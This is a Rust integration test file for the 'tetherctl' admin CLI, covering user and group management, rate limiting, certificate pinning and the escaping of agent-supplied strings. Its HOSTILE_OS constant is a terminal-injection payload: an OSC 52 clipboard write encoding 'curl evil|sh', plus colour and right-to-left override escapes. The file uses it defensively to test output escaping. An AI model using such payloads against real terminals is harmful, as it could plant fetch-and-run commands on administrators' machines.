//! The real `tetherctl` binary against the real server.
//!
//! `tetherctl` is another package's binary, which Cargo does not build for this package's tests:
//! run `cargo build --workspace --bins` (or `cargo build -p tetherctl`) before `cargo test`.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

use common::fake_agent::{open_agent_handshake, rsa_identity};
use common::{REPLY_DEADLINE, TestServer};
use futures_util::{SinkExt, StreamExt};
use tether_common::control::{DeviceInfo, EventRecord, GroupInfo, ServerInfo, UserInfo};
use tokio::io::AsyncWriteExt;
use tokio::process::Command;
use tokio_tungstenite::tungstenite::Message;

const ADMIN_PASSWORD: &str = "admin password 1";

fn tetherctl_path() -> PathBuf {
    let path = Path::new(env!("CARGO_BIN_EXE_tether-server")).with_file_name("tetherctl");
    assert!(
        path.is_file(),
        "{} is missing: run `cargo build --workspace --bins` (or `cargo build -p tetherctl`) before these tests",
        path.display()
    );
    path
}

/// Runs tetherctl against `server` as `user`/`password`; `trust` replaces the default
/// `--trust-root <the server's root>`. Known servers go to a file in `known_dir`, never ~/.config.
struct Ctl<'a> {
    server: &'a TestServer,
    known_dir: tempfile::TempDir,
}

impl<'a> Ctl<'a> {
    fn new(server: &'a TestServer) -> Ctl<'a> {
        Ctl {
            server,
            known_dir: tempfile::tempdir().unwrap(),
        }
    }

    fn known_servers(&self) -> PathBuf {
        self.known_dir.path().join("known_servers")
    }

    fn root(&self) -> String {
        self.server
            .file("root-cert-public.crt")
            .display()
            .to_string()
    }

    fn command(&self, user: &str, password: &str, trust: &[&str], args: &[&str]) -> Command {
        let url = format!("wss://127.0.0.1:{}", self.server.port);
        let mut command = Command::new(tetherctl_path());
        command
            .env("TETHER_URL", url)
            .env("TETHER_USER", user)
            .env("TETHER_PASS", password)
            .env("TETHER_KNOWN_SERVERS", self.known_servers())
            .args(trust)
            .args(args)
            .kill_on_drop(true);
        command
    }

    async fn run_as(&self, user: &str, password: &str, trust: &[&str], args: &[&str]) -> Output {
        let mut command = self.command(user, password, trust, args);
        tokio::time::timeout(REPLY_DEADLINE, command.output())
            .await
            .expect("tetherctl timed out")
            .expect("run tetherctl")
    }

    /// As the admin, trusting the server's root, with more environment variables and `stdin`
    /// written to its standard input (which is then closed).
    async fn admin_with(&self, env: &[(&str, &str)], stdin: &str, args: &[&str]) -> Output {
        let root = self.root();
        let mut command = self.command("admin", ADMIN_PASSWORD, &["--trust-root", &root], args);
        command
            .envs(env.iter().copied())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = command.spawn().expect("run tetherctl");
        let mut input = child.stdin.take().expect("piped stdin");
        input.write_all(stdin.as_bytes()).await.unwrap();
        drop(input);
        tokio::time::timeout(REPLY_DEADLINE, child.wait_with_output())
            .await
            .expect("tetherctl timed out")
            .expect("wait for tetherctl")
    }

    /// As the admin, trusting the server's root; must succeed. Returns stdout.
    async fn ok(&self, args: &[&str]) -> String {
        let root = self.root();
        let output = self
            .run_as("admin", ADMIN_PASSWORD, &["--trust-root", &root], args)
            .await;
        assert!(
            output.status.success(),
            "tetherctl {args:?} failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8(output.stdout).unwrap()
    }

    /// `tetherctl ARGS --json`, read as the typed result it prints (the wire types, camelCase).
    async fn json<T: serde::de::DeserializeOwned>(&self, args: &[&str]) -> T {
        let mut args = args.to_vec();
        args.push("--json");
        let stdout = self.ok(&args).await;
        serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("tetherctl {args:?} printed no JSON ({e}):\n{stdout}"))
    }
}

/// Asserts a failure reported the documented way: non-zero status, one stderr line.
fn failure_line(output: &Output) -> String {
    assert!(
        !output.status.success(),
        "expected a failure, got: {}",
        String::from_utf8_lossy(&output.stdout)
    );
    let stderr = String::from_utf8(output.stderr.clone()).unwrap();
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 1, "exactly one line on stderr: {stderr:?}");
    assert!(lines[0].starts_with("tetherctl: "), "{stderr:?}");
    lines[0].to_owned()
}

async fn server_with_admin() -> TestServer {
    let server = TestServer::start().await;
    server.create_admin("admin", ADMIN_PASSWORD).await;
    server
}

#[tokio::test]
async fn an_administrator_sets_up_groups_users_and_rights() {
    let server = server_with_admin().await;
    let ctl = Ctl::new(&server);

    let info: ServerInfo = ctl.json(&["serverinfo"]).await;
    assert_eq!(info.version, env!("CARGO_PKG_VERSION"));
    assert_eq!(info.agent_cert_hash.len(), 96);
    assert!(ctl.ok(&["serverinfo"]).await.contains("agent cert hash"));

    ctl.ok(&["addgroup", "Office", "--desc", "Front desk"])
        .await;
    let groups: Vec<GroupInfo> = ctl.json(&["listgroups"]).await;
    assert_eq!(groups.len(), 1, "{groups:?}");
    assert_eq!(
        (groups[0].name.as_str(), groups[0].description.as_str()),
        ("Office", "Front desk")
    );
    assert_eq!(groups[0].id.as_str().len(), 64);
    let table = ctl.ok(&["listgroups"]).await;
    assert!(
        table.starts_with("NAME") && table.contains("Office"),
        "{table}"
    );
    // Sessions may go direct until the group's policy says otherwise.
    assert!(groups[0].direct_connections);
    let edited: GroupInfo = ctl
        .json(&[
            "editgroup",
            "Office",
            "--direct",
            "off",
            "--desc",
            "Back office",
        ])
        .await;
    assert!(!edited.direct_connections, "{edited:?}");
    assert_eq!(edited.description, "Back office");
    let groups: Vec<GroupInfo> = ctl.json(&["listgroups"]).await;
    assert!(!groups[0].direct_connections, "{groups:?}");
    let refused = ctl
        .admin_with(&[], "", &["editgroup", "Office", "--direct", "maybe"])
        .await;
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        !refused.status.success() && stderr.contains("invalid value 'maybe'"),
        "{stderr}"
    );

    ctl.ok(&[
        "adduser",
        "Alice",
        "--pass",
        "alice password",
        "--email",
        "alice@example.org",
    ])
    .await;
    let users: Vec<UserInfo> = ctl.json(&["listusers"]).await;
    let alice = users
        .iter()
        .find(|u| u.id.as_str() == "alice")
        .expect("alice listed");
    assert_eq!((alice.name.as_str(), alice.site_admin), ("Alice", false));

    ctl.ok(&[
        "grouprights",
        "--group",
        "office",
        "--user",
        "alice",
        "--rights",
        "view,terminal",
    ])
    .await;
    let groups: Vec<GroupInfo> = ctl.json(&["listgroups"]).await;
    let alice_rights = groups[0]
        .members
        .iter()
        .find(|m| m.user.as_str() == "alice")
        .unwrap();
    assert_eq!(alice_rights.rights.0, 1 | 16);

    let devices: Vec<DeviceInfo> = ctl.json(&["listdevices"]).await;
    assert_eq!(devices, []);
    // Every tetherctl run logs in (and that is logged), so the newest five are a mix…
    let events: Vec<EventRecord> = ctl.json(&["events", "--limit", "5"]).await;
    assert_eq!(events.len(), 5, "{events:?}");
    // …while the group's own history is exactly what was done to it, newest first.
    let office_events: Vec<EventRecord> = ctl
        .json(&["events", "--limit", "5", "--group", "Office"])
        .await;
    let kinds: Vec<&str> = office_events.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(
        kinds,
        ["group_rights_changed", "group_changed", "group_created"]
    );
    // Filters narrow the log on the server: by kind and text (any case), and the last hour.
    let created: Vec<EventRecord> = ctl
        .json(&[
            "events",
            "--kind",
            "group_created",
            "--text",
            "OFFICE",
            "--hours",
            "1",
        ])
        .await;
    assert_eq!(created.len(), 1, "{created:?}");
    assert_eq!(created[0].kind, "group_created");
    let none: Vec<EventRecord> = ctl.json(&["events", "--kind", "no_such_kind"]).await;
    assert_eq!(none, []);

    // Alice sees the group, and may not create one.
    let root = ctl.root();
    let trust = ["--trust-root", root.as_str()];
    let output = ctl
        .run_as("alice", "alice password", &trust, &["listgroups", "--json"])
        .await;
    let seen: Vec<GroupInfo> = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(seen[0].name, "Office");
    let denied = ctl
        .run_as("alice", "alice password", &trust, &["addgroup", "Mine"])
        .await;
    assert!(failure_line(&denied).contains("only site administrators"));

    ctl.ok(&["removegroup", "Office"]).await;
    let groups: Vec<GroupInfo> = ctl.json(&["listgroups"]).await;
    assert_eq!(groups, []);
    ctl.ok(&["removeuser", "alice"]).await;
    let gone = ctl
        .run_as("alice", "alice password", &trust, &["listgroups"])
        .await;
    assert_eq!(
        failure_line(&gone),
        "tetherctl: login failed: wrong user name or password"
    );
}

#[tokio::test]
async fn wrong_passwords_fail_in_one_line_and_the_rate_limit_is_passed_through() {
    let server = server_with_admin().await;
    let ctl = Ctl::new(&server);
    let root = ctl.root();
    let output = ctl
        .run_as(
            "admin",
            "wrong password",
            &["--trust-root", &root],
            &["serverinfo"],
        )
        .await;
    assert_eq!(
        failure_line(&output),
        "tetherctl: login failed: wrong user name or password"
    );
    // The server allows 10 failures per account and window; tetherctl shows its 429 message.
    let mut last = String::new();
    for _ in 0..12 {
        let output = ctl
            .run_as(
                "admin",
                "wrong password",
                &["--trust-root", &root],
                &["serverinfo"],
            )
            .await;
        last = failure_line(&output);
        if last.contains("Too many failed attempts") {
            break;
        }
    }
    assert!(
        last.starts_with("tetherctl: login failed: Too many failed attempts"),
        "{last}"
    );
}

#[tokio::test]
async fn certificates_are_checked_against_the_root_the_fingerprint_or_the_first_use() {
    let server = server_with_admin().await;
    let ctl = Ctl::new(&server);

    // A root that did not issue the server's certificate.
    let stranger = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).unwrap();
    let stranger_root = ctl.known_dir.path().join("stranger.pem");
    std::fs::write(&stranger_root, stranger.cert.pem()).unwrap();
    let stranger_root = stranger_root.display().to_string();
    let output = ctl
        .run_as(
            "admin",
            ADMIN_PASSWORD,
            &["--trust-root", &stranger_root],
            &["serverinfo"],
        )
        .await;
    assert!(failure_line(&output).contains("not trusted"), "{output:?}");

    // First use without a root: accepted with a warning, and recorded.
    let first = ctl
        .run_as("admin", ADMIN_PASSWORD, &[], &["serverinfo"])
        .await;
    assert!(first.status.success(), "{first:?}");
    assert!(String::from_utf8_lossy(&first.stderr).contains("warning: first connection"));
    let recorded = std::fs::read_to_string(ctl.known_servers()).unwrap();
    let fingerprint = recorded.split_whitespace().nth(1).unwrap().to_owned();
    let again = ctl
        .run_as("admin", ADMIN_PASSWORD, &[], &["serverinfo"])
        .await;
    assert!(
        again.status.success() && again.stderr.is_empty(),
        "{again:?}"
    );

    // The same fingerprint given explicitly works; another one does not.
    let pinned = ctl
        .run_as(
            "admin",
            ADMIN_PASSWORD,
            &["--fingerprint", &fingerprint],
            &["serverinfo"],
        )
        .await;
    assert!(pinned.status.success(), "{pinned:?}");
    let other = "00".repeat(32);
    let output = ctl
        .run_as(
            "admin",
            ADMIN_PASSWORD,
            &["--fingerprint", &other],
            &["serverinfo"],
        )
        .await;
    assert!(failure_line(&output).contains("does not match --fingerprint"));

    // A changed certificate for a known server is a hard error.
    let authority = recorded.split_whitespace().next().unwrap().to_owned();
    std::fs::write(ctl.known_servers(), format!("{authority} {other}\n")).unwrap();
    let output = ctl
        .run_as("admin", ADMIN_PASSWORD, &[], &["serverinfo"])
        .await;
    assert!(failure_line(&output).contains("CHANGED"));
}

#[tokio::test]
async fn an_unreachable_server_is_reported_clearly() {
    // A port nothing listens on: bind one, note it, close it.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let output = tokio::process::Command::new(tetherctl_path())
        .args([
            "--url",
            &format!("wss://127.0.0.1:{port}"),
            "--user",
            "a",
            "--pass",
            "b",
            "serverinfo",
        ])
        .env(
            "TETHER_KNOWN_SERVERS",
            std::env::temp_dir().join("tether-test-unused-known-servers"),
        )
        .output()
        .await
        .unwrap();
    let line = failure_line(&output);
    assert!(
        line.contains("cannot connect to 127.0.0.1:") && line.contains("refused"),
        "{line}"
    );
}

#[tokio::test]
async fn new_passwords_come_from_an_environment_variable_or_standard_input() {
    let server = server_with_admin().await;
    let ctl = Ctl::new(&server);
    let root = ctl.root();
    let trust = ["--trust-root", root.as_str()];
    let logs_in = async |user: &str, password: &str| {
        ctl.run_as(user, password, &trust, &["whoami"])
            .await
            .status
            .success()
    };

    // `--pass-env VAR`: the password never appears on the command line.
    let added = ctl
        .admin_with(
            &[("BOB_PASSWORD", "bob from the environment")],
            "",
            &["adduser", "bob", "--pass-env", "BOB_PASSWORD"],
        )
        .await;
    assert!(
        added.status.success(),
        "{}",
        String::from_utf8_lossy(&added.stderr)
    );
    assert!(logs_in("bob", "bob from the environment").await);

    // `--pass -`: one line from standard input.
    let reset = ctl
        .admin_with(
            &[],
            "bob from stdin\nnot this line\n",
            &["resetpassword", "bob", "--pass", "-"],
        )
        .await;
    assert!(
        reset.status.success(),
        "{}",
        String::from_utf8_lossy(&reset.stderr)
    );
    assert!(logs_in("bob", "bob from stdin").await);
    assert!(!logs_in("bob", "bob from the environment").await);

    // No password and no terminal to ask on: a clear error, before anything is sent.
    let none = ctl.admin_with(&[], "", &["adduser", "carol"]).await;
    let line = failure_line(&none);
    assert!(line.contains("--pass-env"), "{line}");
    let unset = ctl
        .admin_with(
            &[],
            "",
            &["adduser", "carol", "--pass-env", "NO_SUCH_VAR_5150"],
        )
        .await;
    let line = failure_line(&unset);
    assert!(line.contains("NO_SUCH_VAR_5150 is not set"), "{line}");
    let empty = ctl
        .admin_with(&[], "\n", &["adduser", "carol", "--pass", "-"])
        .await;
    let line = failure_line(&empty);
    assert!(line.contains("no password on standard input"), "{line}");
    let users: Vec<UserInfo> = ctl.json(&["listusers"]).await;
    assert!(
        users.iter().all(|u| u.id.as_str() != "carol"),
        "no account was made: {users:?}"
    );
}

/// An enrolled device whose agent reports an OS name made to attack the terminal of whoever lists
/// devices: an OSC 52 clipboard write, a colour change and a right-to-left override.
const HOSTILE_OS: &str = "Evil\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}OS\u{1b}[31m \u{202e}lanimret";

/// Enrols a scripted agent with the group's enrolment key (`mesh_id`, the `.msh` MeshID) and has
/// it report `os_name`; returns its socket (the device stays online while it is open) once the
/// server has dealt with the report.
async fn agent_reporting_os(
    server: &TestServer,
    mesh_id: [u8; 48],
    os_name: &str,
) -> common::fake_agent::AgentSocket {
    let (key, cert) = rsa_identity("hostile");
    let (mut handshake, mut ws) = open_agent_handshake(server, &key, cert, mesh_id, None).await;
    let deadline = tokio::time::Instant::now() + REPLY_DEADLINE;
    while !handshake.is_authenticated() {
        while let Some(frame) = handshake.poll_transmit() {
            ws.send(Message::binary(frame)).await.unwrap();
        }
        if handshake.is_authenticated() {
            break;
        }
        match tokio::time::timeout_at(deadline, ws.next()).await {
            Ok(Some(Ok(Message::Binary(frame)))) => handshake.handle_input(&frame).unwrap(),
            Ok(Some(Ok(_))) => {}
            other => panic!("the handshake did not complete: {other:?}"),
        }
    }
    while let Some(frame) = handshake.poll_transmit() {
        ws.send(Message::binary(frame)).await.unwrap();
    }
    let info = serde_json::json!({
        "action": "agentinfo",
        "hostname": "hostile",
        "os_name": os_name,
        "os_version": "",
    });
    ws.send(Message::text(info.to_string())).await.unwrap();
    // The server handles an agent's messages in order: its answer to a ping that follows means
    // the report was stored (or refused) by then.
    ws.send(Message::text(r#"{"action":"ping"}"#))
        .await
        .unwrap();
    loop {
        match tokio::time::timeout_at(deadline, ws.next()).await {
            Ok(Some(Ok(Message::Text(text)))) if text.contains("pong") => return ws,
            Ok(Some(Ok(_))) => {}
            other => panic!("no pong after the agent's report: {other:?}"),
        }
    }
}

#[tokio::test]
async fn strings_from_agents_reach_the_terminal_escaped() {
    let server = server_with_admin().await;
    let ctl = Ctl::new(&server);
    let _: GroupInfo = ctl.json(&["addgroup", "Lab"]).await;
    let msh = ctl.ok(&["agentconfig", "--group", "Lab"]).await;
    let key = tether_common::msh::Msh::parse(&msh).unwrap().mesh_id;
    let _agent = agent_reporting_os(&server, key, HOSTILE_OS).await;

    // Whatever the server made of the report (it may clean or refuse agents' strings itself),
    // tetherctl must print nothing raw; while the server stores them as sent, this is what
    // tests tetherctl's escaping end to end (output.rs tests it directly too).
    let devices: Vec<DeviceInfo> = ctl.json(&["listdevices"]).await;
    let stored_os = devices[0].os.clone();

    let is_raw = |c: char| c == '\u{1b}' || c == '\u{7}' || c == '\u{202e}';
    let table = ctl.ok(&["listdevices"]).await;
    assert!(
        !table.contains(is_raw),
        "raw escapes reach the terminal: {table:?}"
    );
    if stored_os.contains('\u{1b}') {
        // Shown, not hidden: the administrator sees that the name is odd.
        assert!(table.contains("Evil\\x1b]52;c;"), "{table}");
        assert!(table.contains("\\u{202e}lanimret"), "{table}");
    }
    // JSON keeps the value (escaped the JSON way), with nothing raw either.
    let json = ctl.ok(&["listdevices", "--json"]).await;
    assert!(
        !json.contains(is_raw),
        "raw escapes in JSON output: {json:?}"
    );
    let parsed: Vec<DeviceInfo> = serde_json::from_str(&json).unwrap();
    assert_eq!(parsed[0].os, stored_os);
}
